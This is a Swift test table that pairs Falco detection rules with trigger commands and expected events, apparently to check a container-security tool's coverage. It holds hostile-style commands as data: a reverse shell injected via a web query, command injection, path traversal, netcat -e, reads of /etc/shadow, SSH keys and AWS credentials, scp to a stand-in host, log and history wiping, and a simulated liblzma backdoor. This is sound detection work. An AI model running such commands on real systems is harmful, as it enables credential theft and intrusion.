import Testing

/// One rule of Falco's public rule files, a deed that its author wants to be told of, and what is said of it here
/// without a rule.
struct CoverageRow: Sendable, CustomTestStringConvertible {
    var deed: Deed
    /// What the rule looks at besides. These programs are new to the image, so their start is told whatever they are
    /// given; of programs that it knows, StartOptionsTests tries the same.
    var besides: Besides?

    enum Besides: String, Sendable { case flags, environment }

    /// The rule's name.
    var rule: String { deed.name }
    var testDescription: String { rule }
}

/// Rules that no row of the table triggers, and why.
struct UncoveredRule: Sendable {
    var rule: String
    var reason: String
}

extension CoverageRow {
    static let all = processes + reads + changes + network + privileges + containers

    private static func row(
        _ rule: String, _ place: Place, _ act: Deed.Act, _ expected: Expectation..., besides: Besides? = nil
    ) -> CoverageRow {
        var deed = Deed(name: rule, place: place, act: act)
        deed.expected = expected
        return CoverageRow(deed: deed, besides: besides)
    }

    private static let site = "http://127.0.0.1:8000"

    // swift-format-ignore
    private static let processes = [
        row("Run shell untrusted", .toolbox, .exec(["perl", "-e", "system 'sh', '-c', 'true'"]), .process("sh", parent: "perl")),
        row("System user interactive", .toolbox, .interactive("bash", keys: "true\nexit\n", user: "daemon"), .process("bash", terminal: true, uid: 1)),
        row("Terminal shell in container", .toolbox, .interactive("sh", keys: "true\nexit\n"), .process("sh", origin: "exec", terminal: true)),
        row("Netcat Remote Code Execution in Container", .toolbox, .command("nc.traditional -w 1 -e /bin/true 127.0.0.1 4444"), .process("nc.traditional"), besides: .flags),
        row("Search Private Keys or Passwords", .toolbox, .command("find /root -name id_ed25519"), .process("find"), besides: .flags),
        row("Remove Bulk Data from Disk", .toolbox, .shell("echo 1 >/tmp/bulk; shred -u /tmp/bulk"), .process("shred"), .file("shred", "write", "/tmp/bulk")),
        row("Debugfs Launched in Privileged Container", .privileged, .command("debugfs -V"), .process("debugfs")),
        row("Execution from /dev/shm", .toolbox, .shell("cp /opt/triggers/nothing /dev/shm/run; /dev/shm/run"), .process("run", drift: "memory")),
        row("Drop and execute new binary in container", .toolbox, .shell("cp /opt/triggers/nothing /tmp/dropped; /tmp/dropped"), .process("dropped", drift: "added")),
        row("Fileless execution via memfd_create", .toolbox, .command("/opt/triggers/memfd-exec /opt/triggers/nothing"), .process("payload", drift: "memory")),
        row("DB program spawned process", .toolbox, .exec(["sqlite3", ":memory:", ".shell true"]), .process("sh", parent: "sqlite3")),
        row("Program run with disallowed http proxy env", .toolbox, .command("env http_proxy=http://127.0.0.1:9 wget -q -t 1 http://127.0.0.1:8/"), .process("wget", parent: "env"), besides: .environment),
        row("User mgmt binaries", .toolbox, .command("useradd --help"), .process("useradd")),
        row("Launch Package Management Process in Container", .toolbox, .command("apt-get --version"), .process("apt-get")),
        row("Launch Suspicious Network Tool in Container", .toolbox, .command("nc -z -w 1 127.0.0.1 4445"), .process("nc")),
        row("Launch Remote File Copy Tools in Container", .toolbox, .command("scp -q /etc/hostname 203.0.113.7:/tmp/"), .process("scp")),
        row("Launch Ingress Remote File Copy Tools in Container", .toolbox, .command("curl -s -m 1 http://127.0.0.1:8/"), .process("curl")),
        row("Exfiltrating Artifacts via Kubernetes Control Plane", .toolbox, .command("tar -cf /dev/null /etc/hostname"), .process("tar", origin: "exec")),
        row("Potential Local Privilege Escalation via Environment Variables Misuse", .toolbox, .command("env GLIBC_TUNABLES=glibc.malloc.check=1 su --version"), .process("su"), besides: .environment),
        row("Kubernetes Client Tool Launched in Container", .toolbox, .shell("cp /opt/triggers/nothing /usr/local/bin/kubectl; kubectl"), .process("kubectl", drift: "added")),
        row("Sudo Potential Privilege Escalation", .toolbox, .exec(["sudoedit", "-s", "\\"]), .process("sudoedit"), besides: .flags),
        row("Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)", .toolbox, .shell("cp /opt/triggers/nothing /tmp/pkexec; /opt/triggers/exec-nameless /tmp/pkexec"), .process("pkexec"), besides: .flags),
        row("Detect crypto miners using the Stratum protocol", .toolbox, .shell("cp /opt/triggers/nothing /tmp/worker; /tmp/worker -o stratum+tcp://203.0.113.7:3333"), .process("worker"), besides: .flags),
        row("Known Cryptominer Process Executed", .toolbox, .shell("cp /opt/triggers/nothing /tmp/xmrig; /tmp/xmrig"), .process("xmrig")),
        row("Decoding Payload in Container", .toolbox, .shell("echo dHJ1ZQ== | base64 -d"), .process("base64"), besides: .flags),
        row("Basic Interactive Reconnaissance", .toolbox, .interactive("whoami", keys: ""), .process("whoami", terminal: true)),
        row("Network Tool Executed During NPM Package Install", .toolbox, .exec(["npm", "install", "wget -q -t 1 http://127.0.0.1:8/; true"]), .process("sh", script: "/usr/local/bin/npm"), .process("wget", parent: "sh", under: "sh")),
        row("Web Server Spawned Shell", .webapp, .http("GET \(site)/ping?host=here"), .process("sh", parent: "python3")),
        row("Web Server Spawned Suspicious Child Process", .webapp, .http("GET \(site)/ping?host=here;whoami"), .process("whoami", parent: "sh", under: "python3")),
        row("Reverse Shell from Web Server", .webapp, .http("GET \(site)/ping?host=x;bash%20-c%20'exec%200%3C%3E/dev/tcp/127.0.0.1/8000'"), .process("bash", parent: "sh", under: "python3"), .connect("bash", "tcp", 8000, "127.0.0.1"), .privilege("bash", "redirect")),
    ]

    // swift-format-ignore
    private static let reads = [
        row("Directory traversal monitored file read", .webapp, .http("GET \(site)/file?name=../../etc/login.defs"), .file("python3", "read", "/etc/login.defs")),
        row("Read sensitive file untrusted", .toolbox, .command("cat /etc/shadow"), .file("cat", "read", "/etc/shadow")),
        row("Find AWS Credentials", .toolbox, .command("grep -r aws_secret_access_key /root/.aws"), .process("grep"), .file("grep", "read", "/root/.aws/credentials")),
        row("Read ssh information", .toolbox, .command("cat /root/.ssh/id_ed25519"), .file("cat", "read", "/root/.ssh/id_ed25519")),
        row("Read environment variable from /proc files", .toolbox, .command("cat /proc/1/environ"), .file("cat", "read", "/environ")),
        row("Read Shell Configuration File", .toolbox, .command("cat /root/.bashrc"), .file("cat", "read", "/root/.bashrc")),
        row("Backdoored library loaded into SSHD (CVE-2024-3094)", .toolbox, .shell("cd /lib/x86_64-linux-gnu; cp liblzma.so.5 /tmp/lzma; echo >>/tmp/lzma; mv /tmp/lzma liblzma.so.5.6.1; ln -sf liblzma.so.5.6.1 liblzma.so.5; /usr/sbin/sshd -V"), .file("sshd", "exec", "/liblzma.so.5.6.1")),
        row("Privileged Container Device Access", .privileged, .command("head -c 0 /dev/kmsg"), .file("head", "read", "/dev/kmsg")),
        row("Container Access to Host Sensitive Paths", .privileged, .command("cat /host/etc/passwd"), .file("cat", "read", "/host/etc/passwd")),
    ]

    // swift-format-ignore
    private static let changes = [
        row("Clear Log Activities", .toolbox, .shell("truncate -s 0 /var/log/dpkg.log; rm /var/log/dpkg.log"), .file("truncate", "write", "/var/log/dpkg.log", "truncate"), .file("rm", "delete", "/var/log/dpkg.log")),
        row("Create Symlink Over Sensitive Files", .toolbox, .command("ln -s /etc/shadow /tmp/symlink"), .file("ln", "create", "/tmp/symlink", "symlink"), .file("ln", "read", "/etc/shadow", "symlink")),
        row("Create Hardlink Over Sensitive Files", .toolbox, .command("ln /etc/gshadow /tmp/hardlink"), .file("ln", "create", "/tmp/hardlink", "link"), .file("ln", "read", "/etc/gshadow", "link")),
        row("Detect release_agent File Container Escapes", .privileged, .shell("mkdir /tmp/cgroup; mount -t tmpfs none /tmp/cgroup; echo /x >/tmp/cgroup/release_agent"), .privilege("mount", "mount"), .file("sh", "create", "/tmp/cgroup/release_agent")),
        row("Modify Shell Configuration File", .toolbox, .shell("echo >>/root/.bashrc"), .file("sh", "write", "/root/.bashrc")),
        row("Schedule Cron Jobs", .toolbox, .shell("echo >/etc/cron.d/evil; crontab -l"), .file("sh", "create", "/etc/cron.d/evil"), .process("crontab")),
        row("Create files below dev", .toolbox, .command("touch /dev/evil"), .file("touch", "create", "/dev/evil")),
        row("Delete or rename shell history", .toolbox, .command("rm /root/.bash_history"), .file("rm", "delete", "/root/.bash_history")),
        row("Set Setuid or Setgid bit", .toolbox, .shell("echo >/tmp/setuid; chmod u+s /tmp/setuid"), .file("chmod", "write", "/tmp/setuid", "set-id")),
        row("Adding ssh keys to authorized_keys", .toolbox, .shell("echo >>/root/.ssh/authorized_keys"), .file("sh", "create", "/root/.ssh/authorized_keys")),
        row("Update Package Repository", .toolbox, .shell("echo >/etc/apt/sources.list.d/evil.list"), .file("sh", "create", "/etc/apt/sources.list.d/evil.list")),
        row("Write below binary dir", .toolbox, .command("cp /opt/triggers/nothing /usr/bin/evil"), .file("cp", "create", "/usr/bin/evil")),
        row("Write below monitored dir", .toolbox, .command("touch /usr/lib/evil.so"), .file("touch", "create", "/usr/lib/evil.so")),
        row("Write below etc", .toolbox, .shell("echo >>/etc/evil.conf"), .file("sh", "create", "/etc/evil.conf")),
        row("Write below root", .toolbox, .command("touch /evil"), .file("touch", "create", "/evil")),
        row("Write below rpm database", .toolbox, .shell("mkdir -p /var/lib/rpm; echo >/var/lib/rpm/Packages"), .file("sh", "create", "/var/lib/rpm/Packages")),
        row("Modify binary dirs", .toolbox, .command("mv /usr/bin/pinky /usr/bin/pinky.old"), .file("mv", "delete", "/usr/bin/pinky", "rename"), .file("mv", "create", "/usr/bin/pinky.old", "rename")),
        row("Mkdir binary dirs", .toolbox, .command("mkdir /usr/bin/evil.d"), .file("mkdir", "create", "/usr/bin/evil.d", "mkdir")),
        row("Create Hidden Files or Directories", .toolbox, .command("touch /tmp/.hidden"), .file("touch", "create", "/tmp/.hidden")),
        row("Container Drift Detected (chmod)", .toolbox, .shell("echo >/tmp/script; chmod +x /tmp/script"), .file("chmod", "write", "/tmp/script", "make-executable")),
        row("Container Drift Detected (open+create)", .toolbox, .command("/opt/triggers/create-executable /tmp/made"), .file("create-executable", "create", "/tmp/made", "make-executable")),
        row("Modify Container Entrypoint", .toolbox, .shell("echo >>/usr/local/bin/heartbeat.sh"), .file("sh", "write", "/usr/local/bin/heartbeat.sh")),
    ]

    // swift-format-ignore
    private static let network = [
        row("Contact K8S API Server From Container", .toolbox, .command("/opt/triggers/connect-tcp 10.96.0.1 443"), .connect("connect-tcp", "tcp", 443, "10.96.0.1")),
        row("Disallowed SSH Connection Non Standard Port", .toolbox, .command("ssh -o BatchMode=yes -p 2222 203.0.113.7"), .connect("ssh", "tcp", 2222, "203.0.113.7")),
        row("System procs network activity", .toolbox, .exec(["bash", "-c", "echo >/dev/tcp/203.0.113.7/80"]), .connect("bash", "tcp", 80, "203.0.113.7")),
        row("Unexpected UDP Traffic", .toolbox, .shell("/opt/triggers/send-udp 127.0.0.1 5353; timeout 0.2 nc -u -l -p 5354"), .connect("send-udp", "udp", 5353, "127.0.0.1"), .listen("nc", "udp", 5354)),
        row("Contact EC2 Instance Metadata Service From Container", .toolbox, .command("curl -s -m 1 http://169.254.169.254/"), .connect("curl", "tcp", 80, "metadata")),
        row("Contact cloud metadata service from container", .toolbox, .command("wget -q -t 1 -T 1 http://169.254.169.254/"), .connect("wget", "tcp", 80, "metadata")),
        row("Network Connection outside Local Subnet", .toolbox, .command("/opt/triggers/connect-tcp 198.51.100.1 8443"), .connect("connect-tcp", "tcp", 8443, "198.51.100.1")),
        row("Interpreted procs inbound network activity", .toolbox, .exec(["perl", "-MIO::Socket::INET", "-e", "IO::Socket::INET->new(Listen => 1, LocalPort => 8081)"]), .listen("perl", "tcp", 8081)),
        row("Interpreted procs outbound network activity", .webapp, .http("GET \(site)/fetch?url=http://127.0.0.1:4446/"), .connect("python3", "tcp", 4446, "127.0.0.1")),
        row("Unexpected K8s NodePort Connection", .toolbox, .command("/opt/triggers/connect-tcp 10.0.0.1 30080"), .connect("connect-tcp", "tcp", 30080, "10.0.0.1")),
        row("Detect outbound connections to common miner pool ports", .toolbox, .command("/opt/triggers/connect-tcp 203.0.113.7 3333"), .connect("connect-tcp", "tcp", 3333, "203.0.113.7")),
    ]

    // swift-format-ignore
    private static let privileges = [
        row("Packet socket created in container", .toolbox, .command("/opt/triggers/packet-socket"), .privilege("packet-socket", "socket:packet")),
        row("Redirect STDOUT/STDIN to Network Connection in Container", .toolbox, .exec(["bash", "-c", "exec 1>/dev/udp/127.0.0.1/9"]), .privilege("bash", "redirect")),
        row("Linux Kernel Module Injection Detected", .privileged, .command("/opt/triggers/load-module"), .privilege("load-module", "module")),
        row("PTRACE attached to process", .toolbox, .command("/opt/triggers/trace-child"), .privilege("trace-child", "ptrace")),
        row("PTRACE anti-debug attempt", .toolbox, .command("/opt/triggers/trace-me"), .privilege("trace-me", "ptrace")),
        row("Change thread namespace", .privileged, .command("nsenter -t 1 -u true"), .privilege("nsenter", "setns")),
        row("Change namespace privileges via unshare", .toolbox, .command("unshare --user true"), .privilege("unshare", "unshare")),
        row("Non sudo setuid", .toolbox, .command("setpriv --reuid=65534 --clear-groups true"), .privilege("setpriv", "setuid")),
        row("Mount Launched in Privileged Container", .privileged, .command("/opt/triggers/mount-memory /mnt"), .privilege("mount-memory", "mount")),
        row("BPF Program Not Profiled", .privileged, .command("/opt/triggers/load-bpf"), .privilege("load-bpf", "bpf")),
        row("Unprivileged Delegation of Page Faults Handling to a Userspace Process", .toolbox, .command("/opt/triggers/handle-faults"), .privilege("handle-faults", "userfaultfd")),
    ]

    // swift-format-ignore
    private static let containers = [
        row("Launch Disallowed Container", .stranger, .run(image: "base", ["true"]), .unprofiled(Repository.image("base"))),
    ]

    static let uncovered = [
        UncoveredRule(
            rule: "Read sensitive file trusted after startup",
            reason:
                "needs a profile that tells start-up from steady state when it judges; what a start reads is allowed later, too"
        ),
        UncoveredRule(
            rule: "Unexpected inbound connection source", reason: "who connects to a container is not observed"),
        UncoveredRule(rule: "Launch Privileged Container", reason: "how a container is configured is not judged"),
        UncoveredRule(
            rule: "Launch Excessively Capable Container", reason: "how a container is configured is not judged"),
        UncoveredRule(rule: "Launch Sensitive Mount Container", reason: "how a container is configured is not judged"),
        UncoveredRule(rule: "Container Run as Root User", reason: "how a container is configured is not judged"),
        UncoveredRule(rule: "Java Process Class File Download", reason: "looks into payloads, which are not read"),
        UncoveredRule(rule: "Launch Suspicious Network Tool on Host", reason: "about the host"),
        UncoveredRule(rule: "Netcat/Socat Remote Code Execution on Host", reason: "about the host"),
    ]
}
